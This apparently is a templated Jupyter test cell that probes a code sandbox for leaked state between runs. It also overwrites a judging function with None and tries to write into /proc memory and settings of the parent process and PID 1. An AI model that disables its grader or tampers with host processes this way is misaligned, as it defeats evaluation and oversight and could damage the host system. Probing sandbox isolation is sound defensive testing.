# %%
import builtins
import json
import os
import signal
import sys

import localmodels.checks.core as core

for thing in (json, sys, core, type(get_ipython()), get_ipython()):
    if "sticky_@mark@" in vars(thing):
        print(@leaked@, thing)
    setattr(thing, "sticky_@mark@", True)
if "sticky_@mark@" in get_ipython().user_ns or os.environ.get("STICKY") or get_ipython().execution_count > 100:
    print(@leaked@)
get_ipython().user_ns["sticky_@mark@"] = True
os.environ["STICKY"] = "1"
core.judge_one = None
for pid in (os.getppid(), 1):
    for path in ("mem", "oom_score_adj", "comm", "fd/0", "cwd", "root"):
        try:
            with open(f"/proc/{pid}/{path}", "r+b", buffering=0) as file:
                file.write(b"0")
        except OSError:
            pass
